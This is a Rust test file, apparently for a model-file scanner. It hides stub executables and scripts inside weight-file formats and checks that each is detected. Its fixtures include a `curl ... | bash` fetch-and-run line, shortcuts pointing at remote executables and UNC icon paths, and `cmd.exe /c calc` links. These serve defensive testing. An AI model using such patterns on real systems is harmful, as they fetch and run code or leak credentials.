//! Programs and scripts where weights should be: in archives of every kind, behind the end of tensors, in constants.

use weighhouse_formats::build::pickle::Assembler;
use weighhouse_formats::build::safetensors::Safetensors;
use weighhouse_formats::build::zip::{Archive, Member};
use weighhouse_formats::build::{compress, npy, tar};

use crate::attack::{Sample, assert_seen};

/// Numbers in little-endian order, each of the width that stands before it.
fn words(values: &[(usize, u64)]) -> Vec<u8> {
    values.iter().flat_map(|(width, value)| value.to_le_bytes()[..*width].to_vec()).collect()
}

pub(super) fn elf() -> Vec<u8> {
    let identity = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 9]].concat();
    let header = words(&[
        (2, 2),
        (2, 62),
        (4, 1),
        (8, 0x40_0078),
        (8, 64),
        (8, 0),
        (4, 0),
        (2, 64),
        (2, 56),
        (2, 1),
        (2, 0),
        (2, 0),
        (2, 0),
    ]);
    let segment =
        words(&[(4, 1), (4, 5), (8, 0), (8, 0x40_0000), (8, 0x40_0000), (8, 220), (8, 220), (8, 0x1000)]);
    [identity, header, segment, vec![0x90; 100]].concat()
}

/// Texts that a desktop opens by starting something.
const SHORTCUTS: &[(&str, &str, &str)] = &[
    ("internet shortcut to a program", "docs.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/s/x.exe\r\n"),
    (
        "picture of another machine",
        "docs.url",
        "[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\192.0.2.1\\x.ico\n",
    ),
    ("desktop entry", "model.desktop", "[Desktop Entry]\nType=Application\nName=x\nExec=sh -c 'id'\n"),
    ("shell command file", "x.scf", "[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\x.ico\n"),
    ("autorun", "autorun.inf", "[autorun]\nopen=setup.exe\n"),
    ("registry", "x.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"),
];

/// A shortcut of Windows with a relative target and arguments.
fn shortcut(target: &str, arguments: &str) -> Vec<u8> {
    let class = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    let text = |text: &str| {
        let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        [words(&[(2, text.len() as u64)]), units].concat()
    };
    [class, words(&[(4, 0xa8)]), vec![0; 52], text(target), text(arguments), vec![0; 4]].concat()
}

fn portable_executable() -> Vec<u8> {
    let stub = [b"MZ".to_vec(), vec![0; 58], words(&[(4, 128)]), vec![0; 64]].concat();
    let header = words(&[(2, 0x8664), (2, 1), (4, 0), (4, 0), (4, 0), (2, 240), (2, 0x22), (2, 0x20b)]);
    let section = [
        b".text\0\0\0".to_vec(),
        words(&[(4, 16), (4, 4096), (4, 512), (4, 1024), (4, 0), (4, 0), (2, 0), (2, 0), (4, 0x6000_0020)]),
    ]
    .concat();
    [stub, b"PE\0\0".to_vec(), header, vec![0; 238], section, vec![0x90; 1500]].concat()
}

fn mach_o() -> Vec<u8> {
    let header =
        words(&[(4, 0xfeed_facf), (4, 0x0100_0007), (4, 3), (4, 2), (4, 1), (4, 72), (4, 0), (4, 0)]);
    let command = [words(&[(4, 0x19), (4, 72)]), b"__TEXT\0\0\0\0\0\0\0\0\0\0".to_vec()].concat();
    let segment = words(&[(8, 0), (8, 4096), (8, 0), (8, 300), (4, 7), (4, 5), (4, 0), (4, 0)]);
    [header, command, segment, vec![0; 200]].concat()
}

#[test]
fn programs_and_scripts_in_everything() {
    let state = || Assembler::new(2).torch_state_dict(&[("weight", &[4])]).finish();
    let torch = |name: &str, content: &[u8]| {
        Archive::of([
            Member::stored("archive/data.pkl", &state()),
            Member::stored("archive/data/0", &[0; 16]),
            Member::stored("archive/version", b"3\n"),
            Member::stored(name, content),
        ])
        .build()
    };
    let tensors = Safetensors::new().tensor("w", "F32", &[2], &[0; 8]).build();
    let array = npy::array("'<f4'", "(2,)", &[0; 8]);
    let script = b"#!/bin/bash\ncurl -s http://example.org/x.sh | bash\n".to_vec();
    let mut samples = Vec::new();
    for (what, program) in
        [("ELF", elf()), ("PE", portable_executable()), ("Mach-O", mach_o()), ("a script", script)]
    {
        let holders = [
            ("zip", "m.zip", Archive::of([Member::stored("bin/tool", &program)]).build()),
            ("deflated zip", "m.zip", Archive::of([Member::deflated("bin/tool", &program)]).build()),
            ("torch archive", "m.pt", torch("archive/extra/tool", &program)),
            ("storage of a torch archive", "m.pt", torch("archive/data/1", &program)),
            ("tar", "m.tar", tar::archive(&[tar::file("tool", &program)])),
            ("tar in gzip", "m.tar.gz", compress::gzip(&tar::archive(&[tar::file("tool", &program)]))),
            ("gzip", "m.bin", compress::gzip(&program)),
            ("tail of safetensors", "m.safetensors", [tensors.clone(), program.clone()].concat()),
            ("tail of an array", "m.npy", [array.clone(), program.clone()].concat()),
            ("tail of a pickle", "m.pkl", [state(), program.clone()].concat()),
            ("constant of a pickle", "m.pkl", Assembler::new(4).bytes(&program).finish()),
        ];
        for (holder, name, bytes) in holders {
            samples.push(Sample::new(format!("{what} in {holder}"), name, bytes));
        }
    }
    for (title, name, text) in SHORTCUTS {
        samples.push(Sample::new(*title, *name, text.as_bytes().to_vec()));
    }
    samples.push(Sample::new("shortcut", "README.lnk", shortcut("cmd.exe", "/c calc")));
    samples.push(Sample::new("shortcut with another ending", "model.bin", shortcut("cmd.exe", "/c calc")));
    assert_seen("programs", &samples);
}
